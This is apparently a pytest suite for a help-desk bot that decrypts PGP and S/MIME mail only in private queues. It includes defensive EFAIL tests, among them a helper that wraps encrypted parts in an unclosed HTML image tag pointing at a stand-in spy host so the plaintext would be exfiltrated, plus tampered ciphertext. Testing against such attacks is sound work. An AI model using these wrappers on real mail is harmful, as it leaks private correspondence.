"""Encrypted mail that comes in: opened in private queues alone, as a whole or not at all."""

import base64
import re

import pysequoia
import pytest

from adapters.mail.keys import pgp
from adapters.mail.keys.locksmith import ABSENT, ENCLOSED, NO_KEY, Task
from adapters.mail.keys.locksmith import look as looked
from bot.config import Queue
from tests.adapters.mail.keys.people import (
    NOW,
    TEXT,
    cert,
    encrypted_parts,
    mail,
    openssl,
    parts,
    pgp_encrypted,
    pgp_signed,
    smime,
    smime_encrypted,
    smime_signed,
    tsk,
)

PRIVATE, SUPPORT = Queue("legal", private=True), "Support <support@desk.example>"
ANN = "Ann <ann@example.org>"
HTML = (
    b'Content-Type: text/html\r\n\r\n<p>The code<style>x</style> is <b>7</b>.</p><img src="https://spy.example/7">\r\n'
)


@pytest.fixture
def ours(know):
    """Our keys, of both kinds."""
    know(tsk(SUPPORT))
    know(smime("Support", "support@desk.example").secret)
    return smime("Support", "support@desk.example")


def within(letter):
    return letter.protection.private


def test_pgp_mail_is_opened_in_a_private_queue(look, ours):
    read = look(mail(pgp_encrypted()), PRIVATE)

    assert within(read) == "The code is 7."
    assert read.text.startswith("This mail was encrypted (PGP/MIME).")


def test_smime_mail_is_opened_in_a_private_queue(look, ours):
    assert within(look(mail(smime_encrypted(ours)), PRIVATE)) == "The code is 7."


def test_a_text_encrypted_within_is_opened_in_a_private_queue(look, ours):
    armor = pysequoia.encrypt("Grüße: 7\n".encode(), recipients=[cert(SUPPORT)])
    read = look(mail(b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + armor), PRIVATE)

    assert within(read) == "Grüße: 7"
    assert [one.name for one in read.attachments] == ["encrypted.asc"]


@pytest.mark.parametrize("make", [pgp_encrypted, lambda: smime_encrypted(smime("Support", "support@desk.example"))])
def test_in_any_other_queue_it_stays_shut_and_says_what_to_do(look, ours, make):
    read = look(mail(make()), Queue("support"))

    assert within(read) == ""
    assert "not marked private" in read.text
    assert "attached as they came" in read.text
    assert read.attachments


def test_without_a_key_of_ours_it_says_so(look):
    assert "no key of ours is known; import it" in look(mail(pgp_encrypted()), PRIVATE).text


def test_a_key_that_does_not_fit_opens_nothing(look, know):
    know(tsk("Other <other@desk.example>"))
    assert NO_KEY in look(mail(pgp_encrypted()), PRIVATE).text


def test_the_signature_within_is_verified(look, ours, know):
    know(cert(ANN))
    read = look(mail(pgp_encrypted(by=ANN)), PRIVATE)
    assert read.protection.signature == "signed by Ann <ann@example.org>, valid"


def test_an_unknown_signature_within_is_told_as_that(look, ours):
    read = look(mail(pgp_encrypted(by=ANN)), PRIVATE)
    assert (within(read), read.protection.signature) == ("The code is 7.", "signed, unknown key")


def test_what_is_not_signed_within_is_not_called_signed(look, ours):
    assert look(mail(pgp_encrypted()), PRIVATE).protection.signature == ""


@pytest.mark.parametrize("signed", [pgp_signed, lambda: smime_signed(smime("Ann", "ann@example.org"))])
def test_a_signed_mail_within_is_verified(look, ours, know, signed):
    know(cert(ANN))
    know(smime("Ann", "ann@example.org").pem)
    read = look(mail(smime_encrypted(ours, signed())), PRIVATE)

    assert read.protection.signature == "signed by Ann <ann@example.org>, valid"
    assert within(read) == "The code is 7."


def test_decrypted_html_is_flattened_and_its_files_stay_with_it(look, ours):
    file = b"Content-Type: text/csv\r\nContent-Disposition: attachment; filename=codes.csv\r\n\r\n7\r\n"
    read = look(mail(pgp_encrypted(parts("multipart/mixed", "m1", HTML, file))), PRIVATE)

    assert within(read) == "The code is **7**."
    assert [one.name for one in read.protection.private_files] == ["codes.csv"]
    assert "codes.csv" not in [one.name for one in read.attachments]


def frame(inner):
    """EFAIL's direct exfiltration: what is decrypted would end a stranger's open tag."""
    before = b'Content-Type: text/html\r\n\r\n<img src="https://spy.example/\r\n'
    after = b'Content-Type: text/html\r\n\r\n">\r\n'
    return mail(parts("multipart/mixed", "m1", before, inner, after))


@pytest.mark.parametrize("inner", [pgp_encrypted, lambda: smime_encrypted(smime("Support", "support@desk.example"))])
def test_cve_2017_17688_and_17689_nothing_encrypted_is_joined_with_parts_around_it(look, ours, inner):
    read = look(frame(inner()), PRIVATE)

    assert within(read) == ""
    assert ENCLOSED in read.text


def test_efail_a_second_part_beside_the_encrypted_one_keeps_it_shut(look, ours):
    raw = mail(pgp_encrypted()).replace(b"--e1--", b"--e1\r\nContent-Type: text/html\r\n\r\n<img src=\r\n--e1--")
    assert within(look(raw, PRIVATE)) == ""


def unarmored(message):
    lines = message.decode().split("\n\n", 1)[1].split("-----")[0].split("\n")
    data = "".join(line for line in lines if not re.match(r"=.{4}$", line))
    return base64.b64decode(data + "=" * (-len(data) % 4))


@pytest.mark.parametrize("at", [-1, -10, -30])
def test_cve_2017_17688_a_changed_pgp_message_is_not_opened(look, ours, at):
    packets = bytearray(unarmored(pysequoia.encrypt(TEXT, recipients=[cert(SUPPORT)])))
    packets[at] ^= 1
    assert within(look(mail(encrypted_parts(bytes(packets))), PRIVATE)) == ""


def test_cve_2017_17688_a_message_whose_integrity_part_was_cut_off_is_not_opened(look, ours):
    packets = unarmored(pysequoia.encrypt(TEXT * 9, recipients=[cert(SUPPORT)]))
    assert within(look(mail(encrypted_parts(packets[:-22])), PRIVATE)) == ""


def test_without_the_extra_it_says_so(monkeypatch, ring, know):
    know(tsk(SUPPORT))
    own = ring.all()
    monkeypatch.setattr(pgp, "IS_HERE", False)
    assert looked(Task(mail(pgp_encrypted()), NOW, True, own=own)).trouble == ABSENT


def test_the_words_beside_an_encrypted_part_are_still_read(look, ours):
    raw = mail(parts("multipart/mixed", "m1", b"\r\nPlease open this.\r\n", pgp_encrypted()))
    assert look(raw, PRIVATE).text.endswith("Please open this.")


@pytest.mark.parametrize(("cipher", "opens"), [("aes256", True), ("aes128", True), ("des3", False)])
def test_what_openssl_encrypts_is_opened_or_says_that_it_is_not(look, ours, tmp_path, cipher, opens):
    words = ("cms", "-encrypt", "-binary", f"-{cipher}", "-in", "mail", "cert")
    read = look(mail(openssl(*words, folder=tmp_path, mail=TEXT, cert=ours.pem)), PRIVATE)
    assert (within(read), NO_KEY in read.text) == (("The code is 7.", False) if opens else ("", True))
